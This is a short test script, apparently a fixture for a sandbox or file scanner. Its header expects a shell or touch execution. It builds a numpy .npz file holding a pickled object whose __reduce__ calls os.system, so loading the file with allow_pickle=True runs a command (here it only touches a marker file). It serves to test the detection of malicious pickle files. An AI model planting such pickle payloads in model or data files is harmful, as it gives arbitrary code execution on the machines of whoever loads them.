#: {"class": "pickle", "loader": "script", "expect": [["exec", "/(ba|da)?sh$|/touch$"]], "effect": {"mark": 1}}
import numpy as np
class R:
    def __reduce__(self): return os.system, ("touch " + MARK,)
np.savez(TMP + "/m.npz", w=np.array([R()], dtype=object)); np.load(TMP + "/m.npz", allow_pickle=True)["w"]
